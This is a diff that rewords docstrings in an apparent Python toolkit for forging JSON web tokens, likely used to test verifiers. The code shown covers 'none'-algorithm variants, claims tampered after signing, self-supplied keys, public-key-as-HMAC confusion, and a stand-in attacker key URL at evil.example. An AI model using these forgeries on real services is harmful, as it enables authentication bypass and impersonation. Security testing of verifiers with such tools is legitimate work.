@@ -1,4 +1,4 @@
-"""Forge JSON web tokens without the right key."""
+"""JSON web tokens that nobody with the right key has signed."""
 
 import hmac
 import json
@@ -20,7 +20,7 @@ _SOMEWHERE = "https://evil.example/keys.json"
 
 @dataclass(frozen=True)
 class Token:
-    """A decoded compact token."""
+    """A compact token, taken apart."""
 
     header: dict[str, Json]
     claims: dict[str, Json]
@@ -28,28 +28,28 @@ class Token:
 
     @classmethod
     def read(cls, text: str) -> Self:
-        """Decode a token; raise ValueError for a text that is none."""
+        """Take a token apart; ValueError for a text that is none."""
         header, claims, signature = text.split(".")
         return cls(json.loads(_raw(header)), json.loads(_raw(claims)), _raw(signature))
 
     @property
     def signed(self) -> str:
-        """Return the part that is signed."""
+        """What a signature is about."""
         return f"{_part(self.header)}.{_part(self.claims)}"
 
     def with_signature(self, signature: bytes) -> str:
-        """Return the compact form."""
+        """The compact form."""
         return f"{self.signed}.{_text(signature)}"
 
 
 def hs256(header: dict[str, Json], claims: dict[str, Json], secret: bytes) -> str:
-    """Return a token signed with a shared secret."""
+    """A token signed with a shared secret."""
     token = Token({"typ": "JWT", **header, "alg": "HS256"}, claims, b"")
     return token.with_signature(hmac.digest(secret, token.signed.encode(), sha256))
 
 
 def unsigned(token: Token) -> Iterator[tuple[str, str]]:
-    """Yield tokens without a signature, or with a header that says none is needed."""
+    """Without a signature, or with a header that says none is needed."""
     for name in ("none", "None", "NONE", "nOnE", ""):
         bare = Token({**token.header, "alg": name}, token.claims, b"")
         yield f"algorithm {name or 'empty'}", bare.with_signature(b"")
@@ -63,7 +63,7 @@ def unsigned(token: Token) -> Iterator[tuple[str, str]]:
 
 
 def edited(token: Token, **claims: Json) -> Iterator[tuple[str, str]]:
-    """Yield tokens changed after signing."""
+    """Changed after it was signed."""
     for name, value in claims.items():
         yield f"another {name}", Token(token.header, {**token.claims, name: value}, b"").with_signature(token.signature)
     yield "another header", Token({**token.header, "x": 1}, token.claims, b"").with_signature(token.signature)
@@ -76,7 +76,7 @@ def edited(token: Token, **claims: Json) -> Iterator[tuple[str, str]]:
 
 
 def self_keyed(token: Token, claims: dict[str, Json]) -> Iterator[tuple[str, str]]:
-    """Yield tokens signed with the forger's key, which the header names or carries."""
+    """Signed with a key of the forger's, which the header names or carries."""
     mine = ec.generate_private_key(ec.SECP256R1())
     jwk = _jwk(mine.public_key())
     hints: dict[str, dict[str, Json]] = {
@@ -91,7 +91,7 @@ def self_keyed(token: Token, claims: dict[str, Json]) -> Iterator[tuple[str, str
 
 
 def confused(token: Token, claims: dict[str, Json], jwk: dict[str, str]) -> Iterator[tuple[str, str]]:
-    """Yield tokens signed with the public key as if it were a shared secret."""
+    """Signed with the public key, which everybody has, as if it were a shared secret."""
     x, y = (int.from_bytes(_raw(jwk[name]), "big") for name in ("x", "y"))
     public = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
     pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
@@ -123,7 +123,7 @@ def _flipped(data: bytes, place: int) -> bytes:
 
 
 def _neighbour(letter: str) -> str:
-    """Return a letter that differs in the last bit only, which no byte of a signature reaches."""
+    """A letter that differs in the last bit only, which no byte of a signature reaches."""
     alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
     return alphabet[alphabet.index(letter) ^ 1]
 
